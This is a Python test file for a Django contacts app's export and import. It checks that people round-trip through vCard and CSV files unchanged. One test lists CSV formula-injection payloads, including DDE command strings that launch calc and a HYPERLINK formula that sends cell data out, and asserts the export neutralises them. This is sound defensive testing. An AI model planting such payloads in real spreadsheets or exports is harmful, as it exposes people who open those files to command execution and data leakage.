"""Who is taken along comes back into an empty account as they went: 1,000 people of any kind, two forms."""

from __future__ import annotations

import csv
import io
from itertools import count

import pytest
import time_machine
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from apps.contacts.imports.table.cells import FORMULA_SIGNS
from apps.contacts.models import Contact, ImportRow
from apps.core.scope import acting_as
from tests.conftest import NOW
from tests.contacts.exports.books import book
from tests.contacts.exports.drawing import Drawing, plant
from tests.contacts.imports.bringing import bring
from tests.making import make_contact, make_member

pytestmark = pytest.mark.django_db
FILES, IN_A_FILE = 4, 250
numbers = count()
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"see")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
]


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False):
        yield


def taken_along(client_of, member, name: str) -> bytes:
    return b"".join(client_of(member).get(f"/contacts/{name}").streaming_content)


def a_member():
    return make_member(f"round-{next(numbers)}@example.org")


@settings(
    max_examples=FILES,
    deadline=None,
    phases=[Phase.generate],
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(st.integers(0, 2**64))
def test_people_come_back_as_they_went(client_of, seed):
    maya = a_member()
    with acting_as(maya):
        plant(maya, Drawing(seed).people(IN_A_FILE), now=NOW)
    for name in ("people-4.vcf", "people.csv"):
        check_comes_back(client_of, maya, name)


def check_comes_back(client_of, maya, name: str) -> None:
    other, photos = a_member(), name.endswith(".vcf")
    batch = bring(other, taken_along(client_of, maya, name), NOW, name)
    with acting_as(maya):
        expected = book(maya, photos=photos)
    with acting_as(other):
        found = book(other, photos=photos)
    assert batch.created == batch.rows == len(expected) == len(found)
    for uid, said in expected.items():
        assert found[uid] == said


def test_formulas_go_out_inert_and_come_back_exact(maya, client_of):
    for payload in PAYLOADS:
        make_contact(maya, f"Ana {PAYLOADS.index(payload)}", notes=f"{payload}\n{payload}", relation=payload)
    file = taken_along(client_of, maya, "people.csv")
    rows = list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_SIGNS)]
    other = a_member()
    bring(other, file, NOW, "people.csv")
    with acting_as(other):
        back = dict(Contact.objects.of(other).values_list("name", "relation"))
        notes = dict(Contact.objects.of(other).values_list("name", "notes"))
    for number, payload in enumerate(PAYLOADS):
        # a tab at an end is blank space, which no line of the book keeps
        assert back[f"Ana {number}"] == payload.strip()
        assert notes[f"Ana {number}"] == f"{payload}\n{payload}".strip()


def test_same_table_again_changes_nothing(maya, client_of):
    make_contact(maya, "Ana Lima", notes="Lisbon", email="ana@example.org")
    other = a_member()
    for outcome in (ImportRow.Outcome.CREATED, ImportRow.Outcome.MATCHED):
        batch = bring(other, taken_along(client_of, maya, "people.csv"), NOW, "people.csv")
        with acting_as(other):
            assert ImportRow.objects.of(other).get(batch=batch).outcome == outcome
